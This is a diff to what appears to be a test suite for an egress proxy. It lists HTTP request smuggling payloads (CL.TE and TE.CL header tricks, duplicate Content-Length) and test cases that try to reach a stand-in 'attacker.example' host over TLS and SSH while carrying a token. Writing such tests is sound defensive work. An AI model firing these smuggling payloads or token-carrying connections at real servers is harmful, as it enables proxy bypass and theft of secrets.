@@ -35,7 +35,6 @@ SMUGGLED = {
     "CL.TE, in a folded header": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
     "CL.TE, a bare line feed": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nX: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
     "CL.TE, quotes": (POST.format(form="te") + f'Content-Length: {SIZE + 5}\r\nTransfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n' + BAD),
-    "CL.TE, an underscore": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer_Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
     "TE.CL": (POST.format(form="cl-first") + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKED),
     "TE.CL, upper case": (POST.format(form="cl-first") + "Content-Length: 4\r\nTRANSFER-ENCODING: CHUNKED\r\n\r\n" + CHUNKED),
     "two lengths, the first short": (POST.format(form="cl") + f"Content-Length: 0\r\nContent-Length: {SIZE}\r\n\r\n" + BAD),
@@ -136,7 +135,7 @@ def _connect() -> list[Case]:
         case(odd, "TLS on port 80 of a listed name", "stream", dial=PROXY, connect="allowed.example:80", tls="allowed.example", http=STRANGER),
         case(odd, "the attacker by name", "stream", dial=PROXY, connect="attacker.example:443", tls="attacker.example", http="attacker.example"),
         case(odd, "SSH of the attacker", "stream", dial=PROXY, connect="attacker.example:22", send="SSH-2.0-{token}\r\n"),
-        case(odd, "the hub's API by the proxy", "reach", dial=PROXY, send="CONNECT {control}:8081 HTTP/1.1\r\n\r\n", sign="text: 200 "),
+        case(odd, "the hub's API by the proxy", "stream", dial=PROXY, connect="{control}:8081", send="{token}\n", sign='text:"place": "hub"'),
     ]
     inner = "CONNECT {target} HTTP/1.1\r\nHost: x\r\n\r\n"
     for name, first, target in (
